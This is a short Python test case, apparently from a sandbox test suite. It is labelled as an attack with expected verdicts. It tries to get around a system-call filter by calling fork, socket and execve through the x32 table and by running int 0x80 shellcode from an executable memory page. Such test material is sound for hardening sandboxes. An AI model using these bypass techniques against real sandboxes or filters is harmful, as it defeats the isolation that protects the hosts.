# /// attack
# tries = "Reach system calls through the 32-bit tables, which a careless filter does not look at."
# verdicts = ["accepted", "runtime_error"]
# ///
import mmap

def attack(root, worker):
    # x32: the number with bit 30 set; fork, socket, execve.
    for number in (57, 41, 59, 272):
        system_call(f"x32 {number}", 0x40000000 + number, 2, 1, 0)
    # int 0x80: mov eax, 2 (fork); int 0x80; ret
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("b802000000cd80c3"))
    function = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = function()
    if 0 <= result & 0xFFFFFFFF < 0xFFFFF000:
        LOOT.append(f"fork by int 0x80: {result}")
    return LOOT
